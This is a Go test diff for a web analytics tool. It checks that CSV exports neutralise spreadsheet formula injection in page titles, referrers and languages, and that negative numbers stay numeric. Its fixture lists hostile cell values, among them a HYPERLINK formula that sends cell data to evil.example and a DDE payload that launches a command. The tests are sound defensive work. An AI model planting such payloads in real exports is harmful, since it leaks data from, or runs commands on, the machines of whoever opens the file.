@@ -11,6 +11,7 @@ import (
 	"os"
 	"path/filepath"
 	"slices"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -609,6 +610,97 @@ func TestNiceMax(t *testing.T) {
 		}
 		if top < tt.peak || top/step > 5 {
 			t.Errorf("niceMax(%d) = %d, %d: below the peak or more than five steps", tt.peak, top, step)
+		}
+	}
+}
+
+// TestCSVNeutralisesFormulas: a spreadsheet runs a cell that starts with
+// =, +, -, @, a tab or a carriage return as a formula. Page titles, paths
+// and referrer hosts come from outside, so every such text cell of every
+// CSV file is prefixed with a single quote (OWASP's advice); numbers,
+// negative ones too, stay numbers.
+func TestCSVNeutralisesFormulas(t *testing.T) {
+	evil := []string{
+		`=HYPERLINK("http://evil.example/?"&A1)`, `+1+cmd|' /C calc'!A0`, `-2+3`, `@SUM(A1:A9)`,
+		"\t=1+1", "\r=1+1",
+	}
+	titles := map[string]string{}
+	b := newBatch()
+	for i, e := range evil {
+		path := fmt.Sprintf("/evil-%d/", i)
+		titles[path] = e
+		spread(fixtureStart, 70, func(day string, n int64) {
+			b.Views[store.ViewKey{Day: day, Path: path}] += n
+			b.Dims[store.DimKey{Day: day, Dim: "referrer", Value: e}] += n
+			b.Dims[store.DimKey{Day: day, Dim: "language", Value: e}] += n
+		})
+	}
+	// Fewer views than the period before: a negative change, a number.
+	for w := -4; w < 0; w++ {
+		spread(fixtureStart.AddDate(0, 0, 7*w), 1000, func(day string, n int64) {
+			b.Views[store.ViewKey{Day: day, Path: "/"}] += n
+		})
+	}
+	st := &memStore{}
+	if err := st.Add(context.Background(), b); err != nil {
+		t.Fatal(err)
+	}
+	opts := fixtureOptions()
+	opts.Title = func(path string) (string, bool) { t, ok := titles[path]; return t, ok }
+	r, err := Generate(context.Background(), st, opts)
+	if err != nil {
+		t.Fatal(err)
+	}
+	files, err := r.Files()
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := map[string]bool{}
+	negative := false
+	for _, f := range files {
+		if !strings.HasSuffix(f.Name, ".csv") {
+			continue
+		}
+		recs, err := csv.NewReader(bytes.NewReader(f.Data)).ReadAll()
+		if err != nil {
+			t.Fatalf("%s: %v", f.Name, err)
+		}
+		for _, rec := range recs {
+			for _, cell := range rec {
+				if cell == "" {
+					continue
+				}
+				if _, err := strconv.ParseFloat(cell, 64); err == nil {
+					negative = negative || cell[0] == '-'
+					continue
+				}
+				if strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					t.Errorf("%s: cell %q starts a formula", f.Name, cell)
+				}
+				if e, ok := strings.CutPrefix(cell, "'"); ok && slices.Contains(evil, e) {
+					found[f.Name] = true
+				}
+			}
+		}
+	}
+	for _, name := range []string{"pages.csv", "referrers.csv", "languages.csv"} {
+		if !found[name] {
+			t.Errorf("%s holds none of the hostile values, quoted: the test proves nothing there", name)
+		}
+	}
+	if !negative {
+		t.Error("no negative number in any CSV file: the test does not show that numbers stay numbers")
+	}
+}
+
+func TestNeutralise(t *testing.T) {
+	for in, want := range map[string]string{
+		"": "", "/docs/": "/docs/", "Install Folio": "Install Folio", "12": "12", "-12.5": "-12.5", "0.0": "0.0",
+		"-": "'-", "-.5": "'-.5", "-1.": "'-1.", "-1-1": "'-1-1", "+1": "'+1", "=1": "'=1", "@x": "'@x",
+		"\tx": "'\tx", "\rx": "'\rx", "'=1": "'=1", " =1": " =1",
+	} {
+		if got := neutralise(in); got != want {
+			t.Errorf("neutralise(%q) = %q, want %q", in, got, want)
 		}
 	}
 }
